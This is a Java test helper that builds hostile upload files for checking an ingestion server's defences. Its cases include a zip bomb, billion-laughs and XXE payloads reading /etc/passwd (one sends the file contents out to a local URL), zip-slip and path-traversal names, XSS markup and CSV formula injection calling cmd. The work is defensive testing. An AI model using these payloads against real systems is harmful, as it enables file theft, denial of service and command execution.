package io.tributary.it;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Generates hostile contribution files: broken encodings, bombs, XXE, zip-slip, hostile names, NUL bytes, giant
 * numbers, deep nesting, non-object lines, unbalanced CSV quotes, markup in record text. Every file's valid content is
 * unique per run, so duplicate checks never hide a count.
 */
final class HostileCorpus {

    /** Which of the test's DataNets a case goes to. */
    enum Target {
        /** Question/answer, JSONL and CSV, keeps valid lines. */
        KEEP,
        /** Question/answer, refuses a file with any bad line. */
        STRICT,
        /** Documents: text and DOCX. */
        DOCUMENTS
    }

    /**
     * One hostile upload.
     *
     * @param validRecords the records that must be stored when accepted; -1 when the server may accept or refuse
     *     (parsers differ on e.g. a billion-laughs part) and 0 when it must refuse
     * @param forbidden text that must never appear in a stored record (XXE payloads)
     */
    record Case(String name, Target target, String fileName, byte[] content, int validRecords, String forbidden) {
        boolean mustRefuse() {
            return validRecords == 0;
        }
    }

    private final String run = UUID.randomUUID().toString().substring(0, 8);
    private int serial;

    private String qa() {
        serial++;
        return "{\"question\":\"Corpus " + run + " question " + serial + ": why is the sky blue at noon?\","
                + "\"answer\":\"Rayleigh scattering of sunlight, case " + serial + " of run " + run + ".\"}";
    }

    private String csvRow() {
        serial++;
        return "\"Corpus " + run + " question " + serial + ": why do leaves fall?\",\"Abscission in autumn, case "
                + serial + " of run " + run + ".\"";
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) out.writeBytes(part);
        return out.toByteArray();
    }

    List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        encodings(cases);
        bombs(cases);
        names(cases);
        lines(cases);
        csv(cases);
        documents(cases);
        return cases;
    }

    private void encodings(List<Case> cases) {
        String two = qa() + "\n" + qa() + "\n";
        cases.add(refused("utf-16le with BOM", "\uFEFF" + two, StandardCharsets.UTF_16LE));
        cases.add(refused("utf-16be with BOM", "\uFEFF" + two, StandardCharsets.UTF_16BE));
        cases.add(refused("utf-16le without BOM", two, StandardCharsets.UTF_16LE));
        cases.add(refused("utf-16be without BOM", two, StandardCharsets.UTF_16BE));
        cases.add(refused(
                "latin-1",
                qa() + "\n{\"question\":\"Caf\u00e9 " + run + "?\",\"answer\":\"Cr\u00e8me.\"}\n",
                StandardCharsets.ISO_8859_1));
        cases.add(new Case(
                "invalid bytes 0xFF 0x80",
                Target.KEEP,
                "invalid.jsonl",
                concat(utf8(qa() + "\n{\"question\":\"x"), new byte[] {(byte) 0xFF, (byte) 0x80}, utf8("\"}\n")),
                0,
                null));
        cases.add(new Case(
                "overlong slash C0 AF",
                Target.KEEP,
                "overlong.jsonl",
                concat(utf8(qa() + "\n{\"question\":\"a"), new byte[] {(byte) 0xC0, (byte) 0xAF}, utf8("\"}\n")),
                0,
                null));
        cases.add(new Case(
                "overlong three-byte E0 80 AF",
                Target.KEEP,
                "overlong3.jsonl",
                concat(utf8("{\"question\":\"a"), new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF}, utf8("\"}\n")),
                0,
                null));
        cases.add(new Case(
                "CESU surrogate ED A0 80",
                Target.KEEP,
                "cesu.jsonl",
                concat(utf8("{\"question\":\"a"), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, utf8("\"}\n")),
                0,
                null));
        cases.add(new Case(
                "truncated sequence at the end",
                Target.KEEP,
                "truncated.jsonl",
                concat(utf8(qa() + "\n"), new byte[] {(byte) 0xE2, (byte) 0x82}),
                0,
                null));
        cases.add(new Case(
                "utf-8 with BOM and CR line ends",
                Target.KEEP,
                "bom.jsonl",
                utf8("\uFEFF" + qa() + "\r" + qa() + "\r"),
                2,
                null));
        cases.add(new Case("all NUL bytes", Target.KEEP, "zeros.jsonl", new byte[4096], 0, null));
    }

    private Case refused(String name, String text, java.nio.charset.Charset charset) {
        return new Case(
                name, Target.KEEP, name.replaceAll("[^a-z0-9]+", "-") + ".jsonl", text.getBytes(charset), 0, null);
    }

    private void bombs(List<Case> cases) {
        cases.add(new Case("zip bomb as DOCX", Target.DOCUMENTS, "bomb.docx", zipBomb(), 0, null));
        cases.add(new Case("DOCX with 10,001 parts", Target.DOCUMENTS, "parts.docx", manyParts(), 0, null));
        cases.add(new Case(
                "DOCX that is not a zip",
                Target.DOCUMENTS,
                "garbage.docx",
                utf8("PK\u0003\u0004 this is not really a zip archive"),
                0,
                null));
        cases.add(new Case(
                "billion laughs in word/document.xml",
                Target.DOCUMENTS,
                "laughs.docx",
                docx(billionLaughs(), List.of()),
                -1,
                "lollollollollollollollollol"));
        cases.add(new Case(
                "XXE reading /etc/passwd in word/document.xml",
                Target.DOCUMENTS,
                "xxe.docx",
                docx(xxe("file:///etc/passwd"), List.of()),
                -1,
                "root:x:0"));
        cases.add(new Case(
                "XXE through a parameter entity",
                Target.DOCUMENTS,
                "xxe-param.docx",
                docx(xxeParameter(), List.of()),
                -1,
                "root:x:0"));
        cases.add(new Case(
                "zip-slip entry names in a DOCX",
                Target.DOCUMENTS,
                "slip.docx",
                docx(
                        document("Zip slip " + run + ": the document's own text about river deltas and sediment."),
                        List.of(
                                "../../../../tmp/tributary-slip-" + run + ".txt",
                                "/etc/tributary-slip-" + run,
                                "..\\..\\windows\\slip.txt")),
                -1,
                null));
        cases.add(new Case(
                "JSON nested a thousand levels deep",
                Target.KEEP,
                "deep.jsonl",
                utf8(qa() + "\n" + "[".repeat(1000) + "]".repeat(1000) + "\n" + "{\"a\":".repeat(1000) + "1"
                        + "}".repeat(1000) + "\n" + qa() + "\n"),
                2,
                null));
        cases.add(new Case(
                "a line of two million characters",
                Target.KEEP,
                "huge-line.jsonl",
                utf8(qa() + "\n{\"question\":\"" + "x".repeat(2_000_000) + "\",\"answer\":\"y\"}\n" + qa() + "\n"),
                2,
                null));
    }

    private void names(List<Case> cases) {
        cases.add(new Case(
                "name of 300 characters", Target.KEEP, "n".repeat(294) + ".jsonl", utf8(qa() + "\n"), 0, null));
        cases.add(new Case(
                "name of 260 emoji", Target.KEEP, "\uD83C\uDF27".repeat(260) + ".jsonl", utf8(qa() + "\n"), 0, null));
        cases.add(new Case(
                "name of 240 emoji", Target.KEEP, "\uD83C\uDF27".repeat(240) + ".jsonl", utf8(qa() + "\n"), 1, null));
        cases.add(
                new Case("path traversal name", Target.KEEP, "../../../etc/passwd.jsonl", utf8(qa() + "\n"), 1, null));
        cases.add(new Case(
                "windows path name", Target.KEEP, "..\\..\\Windows\\win.ini.jsonl", utf8(qa() + "\n"), 1, null));
        cases.add(new Case(
                "control characters in the name",
                Target.KEEP,
                "a\u0001b\r\nc\u0000.jsonl",
                utf8(qa() + "\n"),
                1,
                null));
        cases.add(new Case(
                "RTL override in the name", Target.KEEP, "invoice\u202Elsnoj.exe.jsonl", utf8(qa() + "\n"), 1, null));
        cases.add(new Case(
                "markup in the name", Target.KEEP, "<img src=x onerror=alert(1)>.jsonl", utf8(qa() + "\n"), 1, null));
        cases.add(new Case("name that is only dots", Target.KEEP, "..", utf8(qa() + "\n"), 0, null));
        cases.add(new Case("no name", Target.KEEP, "", utf8(qa() + "\n"), 0, null));
        cases.add(new Case("executable extension", Target.KEEP, "run.exe", utf8("MZ" + qa()), 0, null));
    }

    private void lines(List<Case> cases) {
        cases.add(new Case(
                "raw NUL inside a JSON string",
                Target.KEEP,
                "nul.jsonl",
                utf8(qa() + "\n{\"question\":\"Q\u0000\",\"answer\":\"A\"}\n" + qa() + "\n"),
                2,
                null));
        cases.add(new Case(
                "escaped \\u0000 in a JSON string",
                Target.KEEP,
                "nul-escaped.jsonl",
                utf8(qa() + "\n{\"question\":\"Q\\u0000 " + run + "\",\"answer\":\"A\"}\n" + qa() + "\n"),
                2,
                null));
        cases.add(new Case(
                "NUL between JSON tokens",
                Target.KEEP,
                "nul-token.jsonl",
                utf8(qa() + "\n{\"question\":\"Q\"\u0000,\"answer\":\"A\"}\n"),
                1,
                null));
        cases.add(new Case(
                "unpaired surrogate escape",
                Target.KEEP,
                "surrogate.jsonl",
                utf8(qa() + "\n{\"question\":\"\\ud800\",\"answer\":\"A\"}\n"),
                1,
                null));
        cases.add(new Case(
                "NUL line under the refuse-file policy",
                Target.STRICT,
                "nul-strict.jsonl",
                utf8(qa() + "\n{\"question\":\"Q\\u0000\",\"answer\":\"A\"}\n"),
                0,
                null));
        cases.add(new Case(
                "number with 5,000 digits",
                Target.KEEP,
                "digits.jsonl",
                utf8(qa() + "\n{\"question\":\"Q\",\"answer\":\"A\",\"n\":" + "9".repeat(5000) + "}\n" + "1e"
                        + "9".repeat(5000) + "\n" + qa() + "\n"),
                2,
                null));
        cases.add(new Case(
                "lines that are not objects",
                Target.KEEP,
                "not-objects.jsonl",
                utf8(String.join(
                        "\n",
                        qa(),
                        "[\"q\",\"a\"]",
                        "\"string\"",
                        "42",
                        "-1.5e3",
                        "null",
                        "true",
                        "{}",
                        qa() + " " + qa(),
                        qa(),
                        "")),
                2,
                null));
        cases.add(new Case(
                "script and javascript: in record text",
                Target.KEEP,
                "script.jsonl",
                utf8("{\"question\":\"<script>alert('corpus " + run + "')</script> why?\","
                        + "\"answer\":\"<a href=\\\"javascript:alert(1)\\\">javascript:alert(1)</a> " + run + "\"}\n"),
                1,
                null));
        cases.add(new Case(
                "a field of 500,000 characters",
                Target.KEEP,
                "long-field.jsonl",
                utf8("{\"question\":\"Long " + run + "?\",\"answer\":\"" + "lorem ipsum ".repeat(41_667) + "\"}\n"),
                1,
                null));
        cases.add(new Case("empty file", Target.KEEP, "empty.jsonl", new byte[0], 0, null));
        cases.add(new Case("only blank lines", Target.KEEP, "blank.jsonl", utf8("\n\n  \n\r\n"), 0, null));
    }

    private void csv(List<Case> cases) {
        String header = "question,answer\n";
        cases.add(new Case(
                "CSV with a NUL in a field",
                Target.KEEP,
                "nul.csv",
                utf8(header + csvRow() + "\n\"Q\u0000\",\"A\"\n" + csvRow() + "\n"),
                2,
                null));
        cases.add(new Case(
                "CSV with unbalanced quotes",
                Target.KEEP,
                "quotes.csv",
                utf8(header + csvRow() + "\nStray \" quote,answer\n\"Closed\" then text,answer\n" + csvRow()
                        + "\nLast question?,\"never closed\n"),
                2,
                null));
        cases.add(new Case(
                "CSV formula injection",
                Target.KEEP,
                "formula.csv",
                utf8(header + "\"=cmd|' /C calc'!A0 " + run + "\",\"+SUM(1+1)*cmd|' /C calc'!A0 " + run + "\"\n"),
                1,
                null));
        cases.add(new Case(
                "CSV with CR-only line ends",
                Target.KEEP,
                "cr.csv",
                utf8("question,answer\r" + csvRow() + "\r" + csvRow() + "\r"),
                2,
                null));
        cases.add(new Case("CSV header only", Target.KEEP, "header.csv", utf8(header), 0, null));
        cases.add(new Case(
                "CSV header naming a column twice",
                Target.KEEP,
                "twice.csv",
                utf8("question,question\u0000,answer\n" + csvRow() + "\n"),
                -1,
                null));
    }

    private void documents(List<Case> cases) {
        cases.add(new Case(
                "text document with NUL bytes",
                Target.DOCUMENTS,
                "nul.txt",
                utf8("Plain text " + run + " about tides\u0000 and the moon, long enough to be a document."),
                1,
                null));
        cases.add(new Case(
                "text document with bidi overrides and zero-width characters",
                Target.DOCUMENTS,
                "bidi.txt",
                utf8("Invisible " + run + " \u202Egnirts desrever\u202C and zero\u200Bwidth\uFEFF joins in a text."),
                1,
                null));
    }

    // ---------------------------------------------------------------- DOCX parts

    private static String document(String text) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                + "<w:body><w:p><w:r><w:t>" + text + "</w:t></w:r></w:p></w:body></w:document>";
    }

    private static String billionLaughs() {
        StringBuilder dtd = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"");
            dtd.append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        dtd.append("]>");
        return dtd + document("&lol9;").substring(document("").indexOf("<w:document"));
    }

    private static String xxe(String uri) {
        return "<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"" + uri + "\">]>"
                + document("&xxe;").substring(document("").indexOf("<w:document"));
    }

    private static String xxeParameter() {
        return "<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY % file SYSTEM \"file:///etc/passwd\">"
                + "<!ENTITY % eval \"<!ENTITY exfil SYSTEM 'http://127.0.0.1:9/?%file;'>\">%eval;]>"
                + document("&exfil;").substring(document("").indexOf("<w:document"));
    }

    private static final String CONTENT_TYPES = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
            + "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

    private static final String RELS = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
            + "officeDocument\" Target=\"word/document.xml\"/></Relationships>";

    private static byte[] docx(String documentXml, List<String> extraEntries) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(utf8(CONTENT_TYPES));
            zip.putNextEntry(new ZipEntry("_rels/.rels"));
            zip.write(utf8(RELS));
            for (String entry : extraEntries) {
                zip.putNextEntry(new ZipEntry(entry));
                zip.write(utf8("written outside the extraction folder if anyone unpacked this naively"));
            }
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            zip.write(utf8(documentXml));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** 64 MiB of zeros deflated to about 64 KiB, as the body of a DOCX. */
    private static byte[] zipBomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(utf8(CONTENT_TYPES));
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 64; i++) zip.write(zeros);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] manyParts() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            zip.write(utf8(document("many parts")));
            for (int i = 0; i < 10_001; i++) {
                zip.putNextEntry(new ZipEntry("p/" + i));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
